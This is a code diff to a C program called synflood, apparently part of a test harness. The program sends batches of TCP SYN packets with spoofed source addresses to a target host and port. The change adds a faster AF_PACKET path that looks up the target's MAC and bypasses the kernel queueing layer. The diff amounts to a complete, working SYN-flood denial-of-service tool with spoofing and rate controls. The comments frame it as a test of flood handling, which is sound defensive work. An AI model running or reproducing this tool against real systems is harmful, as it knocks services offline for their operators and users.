@@ -2,6 +2,11 @@
  *
  *   synflood DST_IP DST_PORT --count N [--rate PPS] [--max-seconds S] [--seed X]
  *
+ * The frames go out over an AF_PACKET socket (qdisc bypassed: the kernel's IP output
+ * path is what limits a raw IP socket), to the MAC the kernel's neighbour table has for
+ * DST_IP (/proc/net/arp: connect to it once first); without an entry, over a raw IPv4
+ * socket (IP_HDRINCL).
+ *
  * Sends N TCP SYNs to DST_IP:DST_PORT over a raw IPv4 socket (IP_HDRINCL), each
  * from a pseudo-random source in 198.18.128.0/17 (off the test subnet: the
  * SYN+ACKs go nowhere, as in a real spoofed flood) with a random port, ISN and
@@ -14,6 +19,9 @@
  */
 #include <arpa/inet.h>
 #include <errno.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
 #include <netinet/in.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -25,6 +33,7 @@
 
 #define BATCH 64
 #define PKT   60    /* 20 IP + 20 TCP + 20 options */
+#define ETH   14
 
 static uint64_t rng;
 
@@ -88,6 +97,35 @@ static void build(uint8_t *p, uint32_t dst, uint16_t dport)
     w16(t + 16, csum(t, 40, sum));
 }
 
+/* The kernel's neighbour entry for dst: MAC and interface, from /proc/net/arp. */
+static int arp_lookup(const char *ip, unsigned char mac[6], char ifname[IF_NAMESIZE])
+{
+    FILE *f = fopen("/proc/net/arp", "r");
+    if (!f)
+        return -1;
+    char line[256], a[64], hw[64], dev[64];
+    unsigned type, flags;
+    int found = -1;
+    if (!fgets(line, sizeof(line), f)) {
+        fclose(f);
+        return -1;
+    }
+    while (fgets(line, sizeof(line), f)) {
+        if (sscanf(line, "%63s 0x%x 0x%x %63s %*s %63s", a, &type, &flags, hw, dev) != 5)
+            continue;
+        if (strcmp(a, ip) || !(flags & 2))
+            continue;
+        if (sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
+                   &mac[4], &mac[5]) == 6 && strlen(dev) < IF_NAMESIZE) {
+            strcpy(ifname, dev);
+            found = 0;
+            break;
+        }
+    }
+    fclose(f);
+    return found;
+}
+
 int main(int argc, char **argv)
 {
     if (argc < 5) {
@@ -125,25 +163,43 @@ int main(int argc, char **argv)
         fprintf(stderr, "synflood: bad port, count, rate or time\n");
         return 2;
     }
-    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
-    if (fd < 0) {
-        perror("synflood: socket");
-        return 1;
-    }
-    int sb = 4 << 20;
-    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sb, sizeof(sb));
-    static uint8_t pkts[BATCH][PKT];
+    static uint8_t frames[BATCH][ETH + PKT];
     struct mmsghdr msgs[BATCH];
     struct iovec iov[BATCH];
     struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = da };
+    struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6 };
+    unsigned char mac[6];
+    char ifname[IF_NAMESIZE];
+    int fd = -1, eth = 0;
+    if (arp_lookup(argv[1], mac, ifname) == 0 && (ll.sll_ifindex = (int)if_nametoindex(ifname)) > 0 &&
+        (fd = socket(AF_PACKET, SOCK_RAW, 0)) >= 0) {
+        int one = 1;
+        setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
+        memcpy(ll.sll_addr, mac, 6);
+        eth = ETH;
+        for (int i = 0; i < BATCH; i++) {
+            memcpy(frames[i], mac, 6);
+            memset(frames[i] + 6, 0x02, 6);     /* a locally administered source */
+            frames[i][12] = 0x08;
+            frames[i][13] = 0x00;
+        }
+    } else {
+        fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+        if (fd < 0) {
+            perror("synflood: socket");
+            return 1;
+        }
+    }
+    int sb = 4 << 20;
+    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sb, sizeof(sb));
     memset(msgs, 0, sizeof(msgs));
     for (int i = 0; i < BATCH; i++) {
-        iov[i].iov_base = pkts[i];
-        iov[i].iov_len = PKT;
+        iov[i].iov_base = frames[i] + ETH - eth;
+        iov[i].iov_len = (size_t)(eth + PKT);
         msgs[i].msg_hdr.msg_iov = &iov[i];
         msgs[i].msg_hdr.msg_iovlen = 1;
-        msgs[i].msg_hdr.msg_name = &to;
-        msgs[i].msg_hdr.msg_namelen = sizeof(to);
+        msgs[i].msg_hdr.msg_name = eth ? (void *)&ll : (void *)&to;
+        msgs[i].msg_hdr.msg_namelen = eth ? sizeof(ll) : sizeof(to);
     }
     uint64_t t0 = now_ns(), end = t0 + (uint64_t)maxs * 1000000000ull;
     long long sent = 0;
@@ -162,7 +218,7 @@ int main(int argc, char **argv)
         if (count - sent < n)
             n = (int)(count - sent);
         for (int i = 0; i < n; i++)
-            build(pkts[i], dst, (uint16_t)port);
+            build(frames[i] + ETH, dst, (uint16_t)port);
         int r = sendmmsg(fd, msgs, (unsigned)n, 0);
         if (r < 0) {
             if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR)
@@ -173,6 +229,7 @@ int main(int argc, char **argv)
         sent += r;
     }
     double secs = (double)(now_ns() - t0) / 1e9;
-    printf("synflood: sent=%lld seconds=%.2f rate=%.0f/s\n", sent, secs, secs > 0 ? sent / secs : 0);
+    printf("synflood: sent=%lld seconds=%.2f rate=%.0f/s via=%s\n", sent, secs,
+           secs > 0 ? sent / secs : 0, eth ? "packet" : "raw");
     return sent == count ? 0 : 3;
 }
